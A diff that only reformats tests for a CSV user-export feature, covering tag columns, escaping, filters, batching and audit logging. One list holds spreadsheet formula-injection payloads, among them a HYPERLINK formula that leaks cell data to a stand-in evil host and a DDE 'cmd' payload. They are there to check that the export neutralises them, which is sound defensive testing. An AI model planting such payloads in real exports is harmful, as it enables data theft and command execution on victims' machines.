@@ -24,7 +24,10 @@ const params = () => ({ profileId: profile.id });
 let count = 0;
 const add = async (name: string, tags: Tag[] = []) => {
   count += 1;
-  const { user } = await profile.client.users.createUser({ params: params(), body: { name, email: `export-${count}@latchkey.test`, tags } });
+  const { user } = await profile.client.users.createUser({
+    params: params(),
+    body: { name, email: `export-${count}@latchkey.test`, tags },
+  });
   return user;
 };
 
@@ -36,7 +39,14 @@ async function exported(query: Query = {}): Promise<Record<string, string>[]> {
 }
 
 test("has a line for each user with id, name, e-mail, date, status, last sign-in and a column for every tag key", async () => {
-  const ann = await latchkey.make.aUser(profile, { name: "Ann", tags: [{ key: "region", value: "north" }, { key: "level", value: "chief" }, { key: "level", value: "a;b\\c" }] });
+  const ann = await latchkey.make.aUser(profile, {
+    name: "Ann",
+    tags: [
+      { key: "region", value: "north" },
+      { key: "level", value: "chief" },
+      { key: "level", value: "a;b\\c" },
+    ],
+  });
   const ben = await add("Ben", [{ key: "Region", value: "south" }]);
   const anonymous = await profile.client.users.createAnonymousUser({ params: params(), body: {} });
 
@@ -46,7 +56,16 @@ test("has a line for each user with id, name, e-mail, date, status, last sign-in
   expect(new Set(Object.keys(rows[0] ?? {}).slice(6))).toEqual(new Set(["tag:Region", "tag:level", "tag:region"]));
   const now = latchkey.clock.now().toISOString();
   const byId = new Map(rows.map((row) => [row["id"], row]));
-  expect(byId.get(ann.id)).toMatchObject({ name: "Ann", email: ann.email, subscribed_at: now, status: "active", last_sign_in_at: now, "tag:region": "north", "tag:level": "chief;a\\;b\\\\c", "tag:Region": "" });
+  expect(byId.get(ann.id)).toMatchObject({
+    name: "Ann",
+    email: ann.email,
+    subscribed_at: now,
+    status: "active",
+    last_sign_in_at: now,
+    "tag:region": "north",
+    "tag:level": "chief;a\\;b\\\\c",
+    "tag:Region": "",
+  });
   expect(byId.get(ben.id)).toMatchObject({ status: "invited", last_sign_in_at: "", "tag:Region": "south", "tag:region": "" });
   expect(byId.get(anonymous.id)).toMatchObject({ name: "Anonymous user", email: "", "tag:level": "" });
   expect(rows).toHaveLength(3);
@@ -78,7 +97,19 @@ test("keeps quotes, separators, line breaks and other scripts as they are", asyn
 });
 
 describe("a cell that a spreadsheet would run as a formula", () => {
-  const formulas = ["=1+1", '=HYPERLINK("http://evil.test?"&A1)', "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "-", "+", "=", "-1-1", "--5", "+49 30 1234"];
+  const formulas = [
+    "=1+1",
+    '=HYPERLINK("http://evil.test?"&A1)',
+    "+SUM(A1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-",
+    "+",
+    "=",
+    "-1-1",
+    "--5",
+    "+49 30 1234",
+  ];
 
   test.each(formulas)("%j is neutralised in the safe form and exact in the raw one", async (formula) => {
     await add(formula, [{ key: "formula", value: formula }]);
@@ -93,10 +124,20 @@ describe("a cell that a spreadsheet would run as a formula", () => {
 
   test("is never left over: no cell of any line begins like a formula unless it is a plain number", () => {
     fc.assert(
-      fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom(...formulas), fc.string().map((text) => `\t${text}`)), { minLength: 1, maxLength: 5 }), (cells) => {
-        const [row = []] = Papa.parse<string[]>(csvLine(cells).replace(/\r\n$/, ""), { delimiter: ",", newline: "\r\n" }).data;
-        for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)).toBe(false);
-      }),
+      fc.property(
+        fc.array(
+          fc.oneof(
+            fc.string(),
+            fc.constantFrom(...formulas),
+            fc.string().map((text) => `\t${text}`),
+          ),
+          { minLength: 1, maxLength: 5 },
+        ),
+        (cells) => {
+          const [row = []] = Papa.parse<string[]>(csvLine(cells).replace(/\r\n$/, ""), { delimiter: ",", newline: "\r\n" }).data;
+          for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)).toBe(false);
+        },
+      ),
       { numRuns: 500 },
     );
   });
@@ -120,10 +161,21 @@ test("holds exactly the users that the list shows for the same filter", async ()
   await profile.client.users.suspendUser({ params: { ...params(), userId: ben.id }, body: {} });
   await profile.client.users.deleteUser({ params: { ...params(), userId: cid.id } });
 
-  const filters: Query[] = [{}, { tag: ["region=north"] }, { status: ["suspended"] }, { status: ["deleted"] }, { search: "an" }, { lastSignIn: "never" }, { source: ["api"] }, { tag: ["region"], search: "b" }];
+  const filters: Query[] = [
+    {},
+    { tag: ["region=north"] },
+    { status: ["suspended"] },
+    { status: ["deleted"] },
+    { search: "an" },
+    { lastSignIn: "never" },
+    { source: ["api"] },
+    { tag: ["region"], search: "b" },
+  ];
   for (const query of filters) {
     const { format: _format, ...filter } = query;
-    const listed = (await profile.client.users.listUsers({ params: params(), query: { ...filter, limit: 200 } })).items.map((user) => user.id);
+    const listed = (await profile.client.users.listUsers({ params: params(), query: { ...filter, limit: 200 } })).items.map(
+      (user) => user.id,
+    );
     expect({ query, ids: (await exported(query)).map((row) => row["id"]).toSorted() }).toEqual({ query, ids: listed.toSorted() });
   }
 });
@@ -148,7 +200,11 @@ test("of some thousand users is complete and streams in batches", async () => {
     suspended_at: null,
     deleted_at: null,
   }));
-  for (let start = 0; start < rows.length; start += 500) await latchkey.db.insertInto("users").values(rows.slice(start, start + 500)).execute();
+  for (let start = 0; start < rows.length; start += 500)
+    await latchkey.db
+      .insertInto("users")
+      .values(rows.slice(start, start + 500))
+      .execute();
   const found = await exported();
   expect(found).toHaveLength(2500);
   expect(new Set(found.map((row) => row["id"])).size).toBe(2500);
@@ -157,7 +213,9 @@ test("of some thousand users is complete and streams in batches", async () => {
 
 test("is written down with its filter, before the first line leaves", async () => {
   await add("Ann");
-  const changed = await changedTables(latchkey.db, () => profile.client.users.exportUsers({ params: params(), query: { search: "ann", tag: ["region"] } }));
+  const changed = await changedTables(latchkey.db, () =>
+    profile.client.users.exportUsers({ params: params(), query: { search: "ann", tag: ["region"] } }),
+  );
   expect(changed).toEqual(["audit_entries"]);
   const log = await profile.client.audit.listAudit({ params: params(), query: { action: ["users.exported"] } });
   expect(log.items).toMatchObject([{ after: { search: "ann", tag: ["region"], format: "safe" }, actor: { type: "administrator" } }]);
